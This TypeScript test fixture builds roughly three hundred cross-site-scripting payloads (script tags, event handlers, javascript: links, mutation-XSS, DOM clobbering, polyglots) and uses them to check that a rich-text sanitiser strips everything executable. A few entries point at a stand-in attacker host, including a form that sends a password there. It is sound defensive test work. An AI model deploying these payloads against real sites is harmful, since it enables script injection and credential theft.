// Three hundred hostile texts for every field that takes formatted text. What runs calls `__xss()` or opens a dialog: the
// browser tests count both. Each group is written as what attacks × where it stands, so that each entry is one of its own.
import { textLength } from 'contract/values/rich-text.ts';

const JS = '__xss(1)';

/** Every pair. */
const cross = (list: readonly string[], where: readonly ((attack: string) => string)[]) =>
  list.flatMap(attack => where.map(place => place(attack)));

const scripts = [
  `<script>${JS}</script>`,
  `<SCRIPT>${JS}</SCRIPT>`,
  `<ScRiPt >${JS}</sCrIpT\t\n x>`,
  `<script/x>${JS}</script/>`,
  `<script type=module>${JS}</script>`,
  `<script src=data:text/javascript,${JS}></script>`,
  `<script src="data:text/javascript;base64,X194c3MoMSk="></script>`,
  `<script>${JS}`,
  `<script\n>${JS}//`,
  `<script x="</script>">${JS}</script>`,
  `<script><!--<script>${JS}//--></script>`,
  `<script>//<![CDATA[\n${JS}//]]></script>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href="data:text/javascript,${JS}"/></svg>`,
  `<svg><script>__xss&lpar;1&rpar;</script></svg>`,
  `<math><script>${JS}</script></math>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<<script>${JS}//<</script>`,
  `<script\u0000>${JS}</script>`,
  `<scr\u0000ipt>${JS}</scr\u0000ipt>`,
];

const selfStarting = [
  '<img src=x onerror=$>',
  '<image src=x onerror=$>',
  '<svg onload=$>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><set onbegin=$ attributeName=x dur=1s>',
  '<body onload=$>',
  '<body onpageshow=$>',
  '<input autofocus onfocus=$>',
  '<input type=image src=x onerror=$>',
  '<select autofocus onfocus=$><option>',
  '<textarea autofocus onfocus=$>',
  '<button autofocus onfocus=$>x',
  '<details open ontoggle=$>x</details>',
  '<video src=x onerror=$></video>',
  '<video><source src=x onerror=$></video>',
  '<audio src=x onerror=$></audio>',
  '<iframe onload=$></iframe>',
  '<object data=x: onerror=$></object>',
  '<embed src=x: onerror=$>',
  '<link rel=stylesheet href=data:text/css, onload=$>',
  '<style onload=$></style>',
  '<dialog open onclose=$ oncancel=$>x</dialog>',
];
const spelled: ((tag: string) => string)[] = [
  tag => tag.replaceAll('$', JS),
  tag => tag.replaceAll('$', `"${JS}"`).replace(/ (on\w+)/g, (_, name: string) => `/${name.toUpperCase()}`),
  tag => tag.replaceAll('$', "'&#95;&#x5f;xss&#40;1&#x29;'").replace(/ (on\w+)=/g, '\n\t$1\f='),
];
const events = cross(selfStarting, spelled);

/** What the sanitiser keeps, carrying what it may not keep. */
const kept = ['p', 'strong', 'em', 'u', 'h2', 'h3', 'ul', 'ol', 'li', 'blockquote', 'a', 'br', 'hr'].flatMap(tag => [
  `<${tag} tabindex=0 autofocus onfocus=${JS}>x</${tag}>`,
  `<${tag} style="animation:notice 1s" onanimationstart=${JS} onclick=${JS} onpointerover=${JS}>x</${tag}>`,
]);

const addresses = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  ` \t javascript:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `java&Tab;script:${JS}`,
  `java&NewLine;script:${JS}`,
  `javascript&colon;${JS}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${JS}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${JS}`,
  `&#1;javascript:${JS}`,
  `\u0001javascript:${JS}`,
  `\u0000javascript:${JS}`,
  `java\u0000script:${JS}`,
  `\u00a0javascript:${JS}`,
  `\u200bjavascript:${JS}`,
  `\ufeffjavascript:${JS}`,
  `\u202ejavascript:${JS}`,
  `ja\u00advascript:${JS}`,
  `ｊavascript:${JS}`,
  `javaſcript:${JS}`,
  `javascript://fonds.example/%0a${JS}`,
  `javascript:/*--&gt;</title></style></textarea></script>*/${JS}`,
  `javascript%3A${JS}`,
  `jav%61script:${JS}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${JS}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>`,
  `blob:javascript:${JS}`,
  `http:javascript:${JS}`,
  `https://fonds.example@mechant.example/`,
  `https://mechant.example/" onclick="${JS}`,
  `//mechant.example/x`,
  `\\\\mechant.example\\x`,
  `page:javascript:${JS}`,
  `page:home" onclick="${JS}`,
  `mailto:a@b.fr?body=<script>${JS}</script>`,
  `tel:+33javascript:${JS}`,
].map(href => `<a href="${href.replaceAll('<', '&lt;')}">x</a>`);
const carriers = [
  '<a xlink:href="$">x</a>',
  '<a href=$ target=_top ping=$>x</a>',
  "<a href='$' href='https://fonds.example/'>x</a>",
  '<svg><a xlink:href="$"><text y=9>x</text></a></svg>',
  '<math href="$">x</math>',
  '<math><maction actiontype="statusline" xlink:href="$">x</maction></math>',
  '<map><area href="$" shape=default></map>',
  '<form action="$"><input type=submit autofocus></form>',
  '<form id=f></form><button form=f formaction="$">x</button>',
  '<iframe src="$"></iframe>',
  '<object data="$"></object>',
  '<object><param name=movie value="$"></object>',
  '<embed src="$">',
  '<base href="$//"><a href=x>x</a>',
  '<meta http-equiv=refresh content="0;url=$">',
  '<link rel=import href="$">',
  '<img src="$">',
  '<img srcset="$ 2x" lowsrc="$" dynsrc="$">',
  '<video poster="$"></video>',
  '<table background="$"><td background="$">x',
  '<svg><use href="$"/></svg>',
  '<svg><image href="$"/></svg>',
  '<svg><animate attributeName=href values="$" /></svg>',
].map(tag => tag.replaceAll('$', `javascript:${JS}`));

/** Read in one way by a sanitiser, in another by a browser: mutations, namespaces, comments, parsing states. */
const confusing = [
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<style><p title="</style><img src=x onerror=${JS}>">`,
  `<title><p title="</title><img src=x onerror=${JS}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${JS}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${JS}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${JS}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${JS}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${JS}>">`,
  `<template><img src=x onerror=${JS}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${JS}></template>`,
  `<svg><style><img src=x onerror=${JS}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<svg><foreignObject><p><img src=x onerror=${JS}></p></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${JS}></desc></svg>`,
  `<svg><title><img src=x onerror=${JS}></title></svg>`,
  `<svg><![CDATA[><img src=x onerror=${JS}>]]></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<math><mi//xlink:href="data:x,<script>${JS}</script>">`,
  `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${JS}></style></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${JS}></mtext></math>`,
  `<table><td><svg><p><style><!--</style><img src=x onerror=${JS}>--></style>`,
  `<select><style></select><img src=x onerror=${JS}></style></select>`,
  `<select><template><style></template><img src=x onerror=${JS}>`,
  `<!--><img src=x onerror=${JS}>-->`,
  `<!---><img src=x onerror=${JS}>-->`,
  `<!--x--!><img src=x onerror=${JS}>-->`,
  `<!-- <img src="--><img src=x onerror=${JS}>">`,
  `<![CDATA[<img src=x onerror=${JS}>]]>`,
  `<![if IE]><img src=x onerror=${JS}><![endif]>`,
  `<?xml version="1.0"?><img src=x onerror=${JS}>`,
  `<?php echo '<img src=x onerror=${JS}>' ?>`,
  `</ <img src=x onerror=${JS}>>`,
  `<%><img src=x onerror=${JS}><%`,
  `<p id="\`"><img alt="\` onerror=${JS} src=x">`,
  `<a href="https://fonds.example/'><img src=x onerror=${JS}>'">x</a>`,
  `<a title="&quot;><img src=x onerror=${JS}>" href="https://fonds.example/">x</a>`,
  `<img """><script>${JS}</script>">`,
  `<img src=x:x onerror\u000b=${JS}>`,
  `<img/src="x"/onerror=${JS}//`,
  `<img src=x onerror=${JS}`,
  `<p <img src=x onerror=${JS}>`,
  `<a<b><img src=x onerror=${JS}>`,
  `<p>${'<u>'.repeat(60)}<img src=x onerror=${JS}>`,
  `<li><ul><p><h2><a href=https://fonds.example/><a href="javascript:${JS}">x`,
  `<strong><p></strong><em><script>${JS}</em></p></script>`,
];

/** Written so that decoding it once more would make it run. */
const encoded = [
  `&lt;script&gt;${JS}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${JS}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${JS}&#62;`,
  `&#x3c;svg onload=${JS}&#x3e;`,
  `&LT;img src=x onerror=${JS}&GT;`,
  `%3Cscript%3E${JS}%3C/script%3E`,
  `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${JS}\\x3e`,
  `+ADw-script+AD4-${JS}+ADw-/script+AD4-`,
  `＜script＞${JS}＜/script＞`,
  `\u00bcscript\u00be${JS}\u00bc/script\u00be`,
  `‹img src=x onerror=${JS}›`,
  `<\u200bimg src=x onerror=${JS}>`,
  `<im\u0000g src=x onerror=${JS}>`,
  `<img src=x on\u0000error=${JS}>`,
  `<ſcript>${JS}</ſcript>`,
  `<ımg src=x onerror=${JS}>`,
  `\u202e<img src=x onerror=${JS}>\u202c`,
  `\ud800<img src=x onerror=${JS}>`,
  `\ufeff<img src=x onerror=${JS}>`,
];

const styles = [
  `<style>@import "javascript:${JS}";</style>`,
  `<style>@import url(//mechant.example/x.css);</style>`,
  `<style>*{background:url("javascript:${JS}")}</style>`,
  `<style>body{display:none}</style>`,
  `<p style="background:url(javascript:${JS})">x</p>`,
  `<p style="width:expression(${JS})">x</p>`,
  `<p style="behavior:url(#default#time2)" onbegin=${JS}>x</p>`,
  `<p style="-moz-binding:url(//mechant.example/x.xml#x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="back\\67round:u\\72l(//mechant.example/)">x</p>`,
  `<a href="https://fonds.example/" style="position:absolute;inset:0" class="button">x</a>`,
  `<link rel=stylesheet href=//mechant.example/x.css>`,
];

/** Names that scripts of a page look up, and names that every object has. */
const names = [
  ...cross(
    ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'],
    [name => `<${name} onclick=${JS}>x</${name}>`, name => `<a href="page:${name}" id="${name}">x</a>`],
  ),
  ...['body', 'cookie', 'location', 'getElementById', 'currentScript', 'defaultView', 'attributes', 'root'].map(
    name => `<form id="${name}" name="${name}"><input name="${name}"></form>`,
  ),
  `<a id=config><a id=config name=url href="javascript:${JS}">x</a>`,
  `<img name=implementation><img name=createElement>`,
  `<iframe name=self srcdoc="<script>parent.${JS}</script>"></iframe>`,
];

/** Nothing of ours reads these languages, and nothing may begin to. */
const foreign = [
  `[x](javascript:${JS})`,
  `![x](x"onerror="${JS})`,
  `<javascript:${JS}>`,
  `\`<img src=x onerror=${JS}>\``,
  `~~~html\n<script>${JS}</script>\n~~~`,
  `# <svg onload=${JS}>`,
  `\${${JS}}`,
  `<p v-html="${JS}" x-init="${JS}" ng-app ng-init="${JS}" hx-on:load="${JS}">x</p>`,
  `<p is="x-y" data-bind="text:${JS}" @click="${JS}" :onclick="${JS}">x</p>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${JS} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${JS}//>\\x3e`,
  `'"--></style></script><svg/onload=${JS}>`,
  `"><img src=x onerror=${JS}>`,
];

const documents = [
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${JS}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>parent.${JS}</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>">`,
  `<html manifest=x><head><base href="//mechant.example/"></head><body onload=${JS}>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${JS}</script>">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<form action="//mechant.example/"><input name=password type=password autofocus>`,
  `<portal src="data:text/html,<script>${JS}</script>"></portal>`,
  `<input popovertarget=y popover id=y onbeforetoggle=${JS}>`,
  `<x onclick=${JS} contenteditable autofocus onfocus=${JS} tabindex=1>x</x>`,
  `<custom-element onmouseover=${JS}>x</custom-element>`,
];

export const CORPUS: readonly string[] = [
  ...[...scripts, ...events, ...kept, ...addresses, ...carriers, ...confusing],
  ...[...encoded, ...styles, ...names, ...foreign, ...documents],
  `<plaintext><img src=x onerror=${JS}>`, // the last: nothing closes it
];

/** Closes whatever an entry leaves open, so that the next one is read as if it stood alone. */
const OPEN_ENDED =
  'script style title textarea xmp noembed noframes noscript template select iframe object video audio svg';
const CLOSE = `"'>-->${OPEN_ENDED.split(' ')
  .map(tag => `</${tag}>`)
  .join('')}</math>`;

/** All of them in fields of at most `maxLength` characters: each after its mark, which is text and has to be kept. */
export function batches(maxLength: number): { html: string; marks: string[] }[] {
  const fields: { html: string; marks: string[] }[] = [];
  CORPUS.forEach((entry, index) => {
    const mark = `·${index}·`;
    // No call takes NUL or half a character: written as references, they get as far as the sanitiser.
    const taken = entry.replaceAll('\0', '&#0;').replaceAll('\ud800', '&#xd800;');
    const html = `<p>${mark}</p>${taken}${CLOSE}`;
    const last = fields.at(-1);
    if (last && textLength(last.html + html) <= maxLength) {
      last.html += html;
      last.marks.push(mark);
    } else fields.push({ html, marks: [mark] });
  });
  return fields;
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' };
const decode = (text: string) => text.replace(/&(amp|lt|gt|quot);/g, (_, name: string) => ENTITIES[name]!);

/**
 * What stands in `html` beside the tags of the allowlist, each written in the one way the sanitiser writes it, and text;
 * and the links that `isAllowed` refuses. Nothing a browser could read otherwise is left unseen: no other `<` is allowed.
 */
export function forbiddenIn(html: string, tags: readonly string[], isAllowed: (href: string) => boolean): string[] {
  const plain = new RegExp(`</?(?:${tags.filter(tag => tag !== 'a').join('|')})(?: /)?>|</a>`, 'g');
  const wrongLinks: string[] = [];
  const rest = html
    .replace(/<a href="([^"<>]*)" rel="noopener noreferrer">/g, (_, href: string) => {
      if (!isAllowed(decode(href))) wrongLinks.push(href);
      return '';
    })
    .replace(plain, '');
  return [...wrongLinks, ...(rest.match(/<[\s\S]{0,60}/g) ?? [])];
}
